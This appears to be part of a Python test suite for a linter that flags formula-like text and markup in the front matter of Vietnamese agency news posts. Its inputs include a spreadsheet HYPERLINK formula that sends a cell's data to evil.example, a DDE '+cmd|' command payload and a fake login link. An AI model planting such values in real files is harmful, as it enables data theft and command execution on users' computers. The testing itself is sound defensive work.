    # 14. Text shown as written: spreadsheet formulas and markup in front matter.
    Case(
        "csv-formula",
        text(
            "agencies/nghe-an/tin-tuc/cong-thuc.md",
            '---\ntitle: \'=HYPERLINK("https://evil.example/?d="&A2,"Xem kết quả chấm thi")\'\n'
            "date: 2026-11-20\ntags: [\"+cmd|' /C calc'!A0\"]\n---\nNội dung.\n",
        ),
        (
            'agencies/nghe-an/tin-tuc/cong-thuc.md:2: cảnh báo [formula-like-text] Trường "title" (Tiêu đề) bắt đầu bằng =, +, - hoặc @, như một công thức bảng tính; trong tệp dữ liệu mở (CSV) nó được ghi thành chữ có dấu \' ở đầu. Bỏ ký tự đó ở đầu nếu không cần (looks like a spreadsheet formula).',
            'agencies/nghe-an/tin-tuc/cong-thuc.md:2: cảnh báo [markup-in-plain-text] Trường "title" (Tiêu đề) là chữ thường, không định dạng, nhưng có địa chỉ web: trang sẽ hiện nguyên các ký tự này. Viết chữ thường, đưa liên kết và định dạng vào phần nội dung (markup shown as written).',
            'agencies/nghe-an/tin-tuc/cong-thuc.md:4: cảnh báo [formula-like-text] Trường "tags" (Từ khóa) bắt đầu bằng =, +, - hoặc @, như một công thức bảng tính; trong tệp dữ liệu mở (CSV) nó được ghi thành chữ có dấu \' ở đầu. Bỏ ký tự đó ở đầu nếu không cần (looks like a spreadsheet formula).',
        ),
    ),
    Case(
        "markdown-in-title",
        text(
            "agencies/nghe-an/tin-tuc/tieu-de-dinh-dang.md",
            "---\ntitle: '**Khẩn** [đăng nhập](https://evil.example/dang-nhap) @bo-tu-phap'\n"
            "date: 2026-11-20\n---\nNội dung.\n",
        ),
        (
            'agencies/nghe-an/tin-tuc/tieu-de-dinh-dang.md:2: cảnh báo [markup-in-plain-text] Trường "title" (Tiêu đề) là chữ thường, không định dạng, nhưng có chữ đậm hay gạch ngang kiểu Markdown, liên kết kiểu Markdown [chữ](địa chỉ), tên tài khoản @…, địa chỉ web: trang sẽ hiện nguyên các ký tự này. Viết chữ thường, đưa liên kết và định dạng vào phần nội dung (markup shown as written).',
        ),
    ),
)
